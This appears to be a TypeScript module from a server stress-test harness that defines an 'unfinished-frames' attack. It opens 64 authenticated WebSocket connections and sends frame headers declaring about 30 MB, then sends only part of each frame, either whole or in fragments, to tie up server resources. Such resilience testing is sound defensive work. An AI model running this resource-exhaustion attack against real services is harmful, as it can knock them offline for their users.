import type { Attack } from '../attack.ts'
import { type Field, keyOf, writeAll } from '../field.ts'

const SOCKETS = 64
const FRAME_BYTES = 30_000_000
const BLOCK = Buffer.alloc(64 * 1024, 'x')
/** Less than the frame says. */
const BLOCKS = 400

const CONTINUED = Buffer.from([0x00, 0x80 | 126, 0xff, 0xff, 0, 0, 0, 0])

/** A masked text frame's head, with a mask of nothing. */
const toFrameHead = (bytes: number, isLast: boolean): Buffer => {
  const head = Buffer.alloc(14)
  head[0] = isLast ? 0x81 : 0x01
  head[1] = 0x80 | 127
  head.writeBigUInt64BE(BigInt(bytes), 2)
  return head
}

const shake = async (field: Field, path: string, caller: number) => {
  const client = await field.open()
  client?.write(
    [
      `GET ${path} HTTP/1.1`,
      'host: localhost',
      'connection: Upgrade',
      'upgrade: websocket',
      'sec-websocket-version: 13',
      `sec-websocket-key: ${Buffer.alloc(16, 'k').toString('base64')}`,
      `authorization: Bearer ${keyOf(caller)}`,
      '\r\n',
    ].join('\r\n'),
  )
  await client?.until('\r\n\r\n').catch(() => undefined)
  return client
}

function* inPieces(): Generator<Buffer> {
  yield toFrameHead(0, false)
  for (let at = 0; at < BLOCKS; at++) {
    yield CONTINUED
    yield BLOCK.subarray(0, 0xffff)
  }
}

function* atOnce(): Generator<Buffer> {
  yield toFrameHead(FRAME_BYTES, true)
  for (let at = 0; at < BLOCKS; at++) yield BLOCK
}

export const unfinishedFrames: Attack = {
  name: 'unfinished-frames',
  does: 'leaves frames of 26 MB unfinished on 64 sockets',
  seconds: 6,
  run: (field) =>
    Promise.all(
      Array.from({ length: SOCKETS }, async (_, at) => {
        const client = await shake(field, at % 2 === 0 ? '/ws' : '/v1/responses', at)
        if (client) await writeAll(client, at % 3 === 0 ? inPieces() : atOnce(), field.signal)
        await field.wait()
      }),
    ),
}
